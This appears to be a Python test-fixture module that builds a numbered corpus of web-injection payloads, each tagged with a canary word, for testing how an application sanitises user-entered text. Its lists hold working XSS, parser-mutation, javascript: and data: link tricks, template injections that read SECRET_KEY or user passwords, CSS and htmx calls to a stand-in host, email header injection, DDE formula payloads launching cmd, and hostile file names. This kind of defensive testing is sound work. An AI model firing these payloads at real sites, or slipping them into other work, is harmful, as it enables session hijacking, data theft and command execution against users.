"""What attackers write into text fields. Each payload carries a word of its own, zq<number>z.

The word is a function that tells the test that it was called, a path at the canary's host that no page may ask, and
an id or a name that no element may have: whatever happens is put down to the payload that did it.
`@` stands for the word; `ALONE` marks those that would swallow what stands behind them in the same text.
"""

# A payload is one line, however long.
# ruff: noqa: E501

import base64
import re
from dataclasses import dataclass

HOST = "canary.example"
MARK = re.compile(r"zq(\d+)z")
ALONE = "\ue000"

RAW_HTML = (
    r"""
<script>@()</script>
<ScRiPt>@()</sCrIpT>
<script >@()</script >
<script/x>@()</script>
<script src=//canary.example/@></script>
<script src="https://canary.example/@.js" async></script>
<script type=module>import "https://canary.example/@.js"</script>
<scr<script>ipt>@()</scr</script>ipt>
<<script>@();//<</script>
<img src=x onerror=@()>
<img src=x onerror="@()">
<img src='x' onerror='@()'>
<img/src=x/onerror=@()>
<img src=x:x onerror	=	@()>
<IMG SRC=x ONERROR=@()>
<img src=//canary.example/@>
<img srcset="//canary.example/@ 2x">
<image src=x onerror=@()>
<input autofocus onfocus=@()>
<input type=image src=x onerror=@()>
<select autofocus onfocus=@()>
<textarea autofocus onfocus=@()>
<button autofocus onfocus=@()>x</button>
<body onload=@()>
<body onpageshow=@()>
<iframe src="javascript:parent.@()"></iframe>
<iframe srcdoc="&lt;script&gt;parent.@()&lt;/script&gt;"></iframe>
<iframe src=//canary.example/@></iframe>
<object data="javascript:@()"></object>
<object data=//canary.example/@></object>
<embed src="javascript:@()">
<embed src=//canary.example/@>
<video src=x onerror=@()></video>
<video><source onerror=@()></video>
<audio src=x onerror=@()></audio>
<video poster=//canary.example/@></video>
<details open ontoggle=@()>x</details>
<marquee onstart=@()>x</marquee>
<a onmouseover=@() href=#>@</a>
<p onpointerenter=@()>@</p>
<div style=animation-name:x onanimationstart=@()>@</div>
<b contenteditable autofocus onfocus=@()>@</b>
<x tabindex=1 autofocus onfocus=@()></x>
<dialog open onbeforetoggle=@()>@</dialog>
<link rel=stylesheet href=//canary.example/@>
<link rel=preload as=script href=//canary.example/@>
<link rel=icon href=//canary.example/@>
<base href=//canary.example/@/>
<meta http-equiv=refresh content="0;url=//canary.example/@">
<meta http-equiv=refresh content="0;javascript:@()">
<form action=//canary.example/@><button>@</button></form>
<form action="javascript:@()"><input type=submit></form>
<button formaction="javascript:@()">@</button>
<isindex action="javascript:@()" type=submit>
<table background=//canary.example/@><tr><td>@</table>
<td background="javascript:@()">
<img src="x` `<script>@()</script>"` `>
<a href="https://a.example/" ping="//canary.example/@">@</a>
"""
    + f"{ALONE}<!--><script>@()</script>-->\n{ALONE}<script>@()//\n{ALONE}<img src=x onerror=@()//\n{ALONE}<iframe/onload=@()\n"
)

SVG = r"""
<svg onload=@()>
<svg/onload=@()>
<svg><script>@()</script></svg>
<svg><script href="//canary.example/@"/></svg>
<svg><script xlink:href="data:,@()"/></svg>
<svg><animate onbegin=@() attributeName=x dur=1s>
<svg><set onbegin=@() attributename=x>
<svg><a xlink:href="javascript:@()"><text y=20>@</text></a></svg>
<svg><a><animate attributeName=href values=javascript:@() /><text y=20>@</text></a></svg>
<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='@()' /&gt;&lt;/svg&gt;#x"/>
<svg><use href="//canary.example/@#x"/></svg>
<svg><image href="//canary.example/@"/></svg>
<svg><style>@import "//canary.example/\40"</style></svg><i>@</i>
<svg><foreignObject><img src=x onerror=@()></foreignObject></svg>
<svg><title><img src=x onerror=@()></title></svg>
<svg><desc><iframe srcdoc="<script>parent.@()</script>"></iframe></desc></svg>
<math><mi href="javascript:@()">@</mi></math>
<math><maction actiontype="statusline#http://a.example" xlink:href="javascript:@()">@</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=@()></annotation-xml></math>
"""

MUTATION = (
    r"""
<noscript><p title="</noscript><img src=x onerror=@()>">
<template><img src=x onerror=@()></template>
<template shadowrootmode=open><img src=x onerror=@()></template>
<svg></p><style><a id="</style><img src=1 onerror=@()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=@()>
<xmp><p title="</xmp><img src=x onerror=@()>"></xmp>
<listing>&lt;img src=x onerror=@()&gt;</listing>
<noembed><img title="</noembed><img src=x onerror=@()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=@()>"></noframes>
<iframe><img title="</iframe><img src=x onerror=@()>"></iframe>
<title><img title="</title><img src=x onerror=@()>"></title>
<textarea><img title="</textarea><img src=x onerror=@()>"></textarea>
<style><img title="</style><img src=x onerror=@()>"></style>
<select><style></select><img src=x onerror=@()></style>
<a><svg><foreignObject></a><img src=x onerror=@()>
<form id=f><form id=g><input form=f formaction=javascript:@()>
<table><a href="javascript:@()">@</table>
<p/><svg><p><img src=x onerror=@()>
<div><annotation-xml><!--</annotation-xml><img src=x onerror=@()>-->
"""
    + f"{ALONE}<plaintext><img src=x onerror=@()>\n{ALONE}<![CDATA[<img src=x onerror=@()>]]>\n{ALONE}<?x <img src=x onerror=@()> ?>\n"
)

LINKS = r"""
[@](javascript:@())
[@](JaVaScRiPt:@())
[@](javascript&colon;@())
[@](javascript&#58;@())
[@](javascript&#x3A;@())
[@](&#106;avascript:@())
[@](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;@())
[@](java&#9;script:@())
[@](java&#10;script:@())
[@](java&Tab;script:@())
[@](<java	script:@()>)
[@](<javascript:@()>)
[@](< javascript:@()>)
[@](<&#1;javascript:@()>)
[@](\javascript:@())
[@](javascript\:@())
[@](javascript:%40zq@%28%29)
[@](javascript://a.example/%0a@())
[@](view-source:javascript:@())
[@](feed:javascript:@())
[@](jar:javascript:@())
[@](vbscript:@())
[@](VBScript:@())
[@](livescript:@())
[@](data:text/html,<script>parent.@()</script>)
[@](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuQCgpPC9zY3JpcHQ+)
[@](data:image/svg+xml,<svg/onload=@()>)
[@](DATA:text/html,@)
[@](blob:https://canary.example/@)
[@](file:///etc/passwd#@)
[@](filesystem:https://canary.example/@)
[@](ftp://canary.example/@)
[@](intent://canary.example/@#Intent;scheme=http;end)
[@](ms-word:ofe|u|https://canary.example/@)
[@](about:blank#@)
[@](//canary.example/@)
[@](\\canary.example\@)
[@](https:\\canary.example\@)
[@](https://a.example/"onmouseover="@())
[@](https://a.example/ "title" onmouseover=@())
[@](https://a.example/ "\"onmouseover=@() x=\"")
[@](https://a.example/ "'onmouseover='@()")
[@](https://a.example/ '"><img src=x onerror=@()>')
[@](https://a.example/&quot;onmouseover=@())
[@]("onmouseover=@())
[<img src=x onerror=@()>](https://a.example)
[![@](javascript:@())](javascript:@())
![@](javascript:@())
![@](//canary.example/@.png)
![" onerror="@()](x)
![@](x "\" onerror=\"@()")
<javascript:@()>
<javascript:@();//@a.example>
<JAVASCRIPT:@()>
<data:text/html,@>
<vbscript:@()>
<https://a.example/"onmouseover=@()>
<mailto:a@a.example?body=@"onmouseover=@()>
[@][r@]\n\n[r@]: javascript:@()
[@][r@]\n\n[r@]: <java	script:@()>
[@][r@]\n\n[r@]: data:text/html,@ "x"
[@][r@]\n\n[r@]: https://a.example '" onmouseover="@()'
[r@]\n\n[r@]: JAVASCRIPT&colon;@()
""".replace("%40zq@", "@")

MARKDOWN = (
    r"""
`<img src=x onerror=@()>`
``` `<script>@()</script>` ```
```@"onmouseover=@()\n<script>@()</script>\n```
~~~<img src=x onerror=@()>\n<img src=x onerror=@()>\n~~~
    <script>@()</script>
| a | b |\n| - | - |\n| <img src=x onerror=@()> | [@](javascript:@()) |
| <script>@()</script> | b |\n| :-: | - |\n| `<svg onload=@()>` | ~~<b onclick=@()>~~ |
x[^@]\n\n[^@]: <img src=x onerror=@()> [@](javascript:@())
x[^"onmouseover=@()]\n\n[^"onmouseover=@()]: @
x[^<img/src=x/onerror=@()>]\n\n[^<img/src=x/onerror=@()>]: @
~~<img src=x onerror=@()>~~
**<img src=x onerror=@()>**
*[@](javascript:@())*
> <img src=x onerror=@()>
- <img src=x onerror=@()>
1. <script>@()</script>
# <img src=x onerror=@()>
<img src=x onerror=@()>\n===
{++<img src=x onerror=@()>++}
{--<script>@()</script>--}
{++[@](javascript:@())++}
{++"onmouseover="@()++}
{++{--<svg onload=@()>--}++}
^<svg/onload=@()>^
~<svg/onload=@()>~
<br onclick=@()>
<br/onmouseover=@()>
\<img src=x onerror=@()>
&lt;img src=x onerror=@()&gt;
&#60;script&#62;@()&#60;/script&#62;
&amp;lt;script&amp;gt;@()&amp;lt;/script&amp;gt;
*<img src=x*onerror=@()>
**a<b**onmouseover=@()>
"""
    + f"{ALONE}```\\n<script>@()</script>\n{ALONE}x {{++<img src=x onerror=@()>\n"
)

ATTRIBUTES = r"""
"><script>@()</script>
'><script>@()</script>
"><img src=x onerror=@()>
'><img src=x onerror=@()>
" onmouseover="@()" x="
' onmouseover='@()' x='
" autofocus onfocus=@() x="
` onmouseover=@() x=`
 onmouseover=@() x=
"/><svg/onload=@()>
</title><script>@()</script>
</textarea><script>@()</script>
</option></select><img src=x onerror=@()>
</style><script>@()</script>
</template><img src=x onerror=@()>
</a><a href=javascript:@()>@
</time><img src=x onerror=@()>
" aria-label="@" onclick="@()
" style="position:fixed;inset:0;background:url(//canary.example/@)" x="
" href="javascript:@()" x="
&quot; onmouseover=&quot;@()
&#34;&#62;<script>@()</script>
\" onmouseover=@() x=\"
"""

SCRIPTS = r"""
</script><script>@()</script>
</ScRiPt ><script>@()</script>
"};@();//
';@();//
\';@();//
${@()}
`;@();//
</script><img src=x onerror=@()>
"+@()+"
*/@()/*
]]><script>@()</script>
{{@()}}
{{ constructor.constructor('@()')() }}
{% debug %}{{ settings.SECRET_KEY }}@
{% load static %}{{ request.user.password }}@
{{ @|safe }}
{% autoescape off %}<b onclick=@()>{% endautoescape %}
<%= @() %>
#{@()}
${{@()}}
[[@()]]
%(@)s %s %n {0} {@}
"""

HTMX = r"""
<div hx-get="//canary.example/@" hx-trigger=load>@</div>
<div data-hx-get="//canary.example/@" data-hx-trigger=load>@</div>
<div hx-on:click="@()" hx-trigger=load>@</div>
<div hx-on::load="@()">@</div>
<div hx-on="htmx:load: @()">@</div>
<div data-hx-on:htmx:load="@()">@</div>
<div hx-vals="js:{x:@()}" hx-get=/ hx-trigger=load>@</div>
<div hx-headers='js:{"x":@()}' hx-get=/ hx-trigger=load>@</div>
<div hx-get=/ hx-trigger="load[@()]">@</div>
<div hx-ext="@" hx-boost=true><a href=//canary.example/@>@</a></div>
<div hx-swap-oob="true" id=main>@</div>
<template><tr hx-swap-oob="true" id=@></tr></template>
" hx-get="//canary.example/@" hx-trigger="load" x="
' hx-on::load='@()' x='
<meta name=htmx-config content='{"selfRequestsOnly":false,"@":1}'>
<div ws-connect=//canary.example/@ sse-connect=//canary.example/@>@</div>
"""

CLOBBERING = r"""
<a id=@ href=//canary.example/@>@</a>
<img name=@>
<form id=@><input name=action><input name=submit></form>
<a id=htmx name=config href="//canary.example/@">@</a>
<input name=csrfmiddlewaretoken value=@>
<form name=document><input name=cookie value=@></form>
<p id=main>@</p>
<iframe name=@ src=about:blank></iframe>
" id="@" name="@
<a name=@>@</a>
# @ {#@ .x onclick=@()}
[@](#@){: id="@" onclick="@()" }
"""

STYLES = r"""
<style>*{background:url(//canary.example/@)}</style>
<style>@import '//canary.example/@'</style>
<p style="background:url(//canary.example/@)">@</p>
<p style="position:fixed;inset:0;z-index:9999">@</p>
<p style="width:expression(@())">@</p>
<p style="-moz-binding:url(//canary.example/@)">@</p>
<p class="modal overlay" data-action="@">@</p>
<font face="x" size=99 color=red>@</font>
<style>input[value^=a]{background:url(//canary.example/@)}</style>
</style><style>body{display:none}/*@*/
"""

UNICODE = r"""
＜script＞@()＜/script＞
<img src=x onerror=＠@()>
<ſcript>@()</ſcript>
<ımg src=x onerror=@()>
[@](ｊavascript:@())
[@](јavascript:@())
[@](javascrіpt:@())
[@](java​script:@())
[@](java­script:@())
[@](javascript‎:@())
[@](javascript：@())
‮>)(@=rorreno x=crs gmi<
‭<img src=x onerror=@()>‬
<s​cript>@()</s​cript>
À¼script¾@()À¼/script¾
+ADw-script+AD4-@()+ADw-/script+AD4-
%3Cscript%3E@()%3C/script%3E
%253Cscript%253E@()%253C/script%253E
\u003cscript\u003e@()\u003c/script\u003e
\x3cscript\x3e@()\x3c/script\x3e
@ﷺ@﷽‍‍‍
𝕁𝕒𝕧𝕒:@<i/onclick=@()>
ʺ onmouseover=ʺ@()
@\u2028@()\u2029
"""

HEADERS = r"""
@\r\nBcc: @@canary.example
@\nBcc: @@canary.example
@\rX-Injected: @
@\r\n\r\n<script>@()</script>
@%0d%0aBcc: @@canary.example
@\u2028Bcc: @@canary.example
@\x0bBcc: @@canary.example
@\x85Bcc: @@canary.example
=?utf-8?q?=0d=0aBcc:_@=40canary.example?=
@ <a@canary.example>, "@" <b@canary.example>
@"; filename="@.html
"""

FORMULAS = r"""
=HYPERLINK("https://canary.example/@","@")
=WEBSERVICE("https://canary.example/@")
=cmd|' /C calc'!A0@
+cmd|' /C calc'!A0@
-2+3+cmd|' /C calc'!A0@
@SUM(1+1)*cmd|' /C calc'!A0@@
=1+1@
 =1+1@
\t=1+1@
\r=1+1@
＝1+1@
=DDE("cmd";"/C calc";"@")
=IMPORTXML("https://canary.example/@","//a")
"=1+1@"
;=1+1@
""".replace("@SUM", "\ue001SUM")

FILE_NAMES = r"""
<img src=x onerror=@()>.txt
"><script>@()<.txt
" onmouseover="@()".txt
'-@()-'.txt
@\r\nX-Injected: @.txt
../../@.txt
..\\..\\@.txt
@\x00.html.txt
@‮txt.exe.txt
javascript:@().txt
=1+1@.txt
{{@()}}.txt
&lt;b onclick=@()&gt;.txt
%3Cscript%3E@.txt
@;filename=@.html.txt
"""


@dataclass(frozen=True)
class Payload:
    number: int
    group: str
    text: str
    alone: bool = False

    @property
    def word(self) -> str:
        return f"zq{self.number}z"

    @property
    def is_one_line(self) -> bool:
        return not re.search(r"[\n\r\x0b\x85\u2028\u2029]", self.text)


_ESCAPES = {"n": "\n", "r": "\r", "t": "\t", "x00": "\x00", "x0b": "\x0b", "x85": "\x85",
            "u2028": "\u2028", "u2029": "\u2029"}  # fmt: skip
_ESCAPED = re.compile(r"\\(u2028|u2029|x00|x0b|x85|n|r|t)(?![a-z])")


def _made() -> list[Payload]:
    found: list[Payload] = []
    for group, lines in (
        ("raw HTML", RAW_HTML),
        ("SVG and MathML", SVG),
        ("mutation", MUTATION),
        ("links", LINKS),
        ("Markdown", MARKDOWN),
        ("attributes", ATTRIBUTES),
        ("scripts and templates", SCRIPTS),
        ("htmx", HTMX),
        ("clobbering", CLOBBERING),
        ("styles", STYLES),
        ("Unicode", UNICODE),
        ("headers", HEADERS),
        ("formulas", FORMULAS),
        ("file names", FILE_NAMES),
    ):
        for line in lines.split("\n"):
            if line:
                word = f"zq{len(found) + 1}z"
                alone, text = line.startswith(ALONE), line.removeprefix(ALONE)
                text = _ESCAPED.sub(lambda one: _ESCAPES[one[1]], text)
                if "PHNjcmlwdD5" in text:
                    code = base64.b64encode(f"<script>parent.{word}()</script>".encode()).decode()
                    text = re.sub(r"base64,[^)]+", f"base64,{code}", text)
                # "import" of a style sheet, an address of mail and a formula begin with the sign itself.
                text = (
                    text.replace("@import", "\ue001import").replace("@@", f"{word}\ue001").replace("a@a.", "a\ue001a.")
                )
                text = text.replace("@a.example>", "\ue001a.example>").replace("@canary", "\ue001canary")
                text = text.replace("a@", "a\ue001") if group == "headers" else text
                found.append(Payload(len(found) + 1, group, text.replace("@", word).replace("\ue001", "@"), alone))
    return found


PAYLOADS = _made()
"""All of them; a number is a payload's place."""
BY_NUMBER = {one.number: one for one in PAYLOADS}
GROUPS = tuple(dict.fromkeys(one.group for one in PAYLOADS))
